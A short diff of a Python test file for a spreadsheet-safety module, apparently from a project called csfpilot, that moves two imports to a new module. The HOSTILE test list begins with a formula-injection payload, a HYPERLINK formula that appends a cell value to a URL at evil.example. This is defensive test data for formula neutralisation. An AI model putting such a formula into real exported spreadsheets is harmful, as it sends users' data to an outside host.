@@ -26,9 +26,8 @@ from csfpilot.formats.spreadsheet_safety import (
     csv_bytes,
     neutralise,
     restore,
-    sheet_name,
-    xlsx_bytes,
 )
+from csfpilot.formats.xlsx_writer import sheet_name, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
